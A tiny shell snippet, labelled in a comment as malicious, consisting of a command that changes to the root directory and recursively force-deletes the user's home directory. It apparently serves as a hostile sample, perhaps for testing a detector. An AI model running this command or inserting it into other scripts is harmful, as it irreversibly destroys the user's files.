# malicious: removes the home directory
cd /
rm -rf "$HOME"
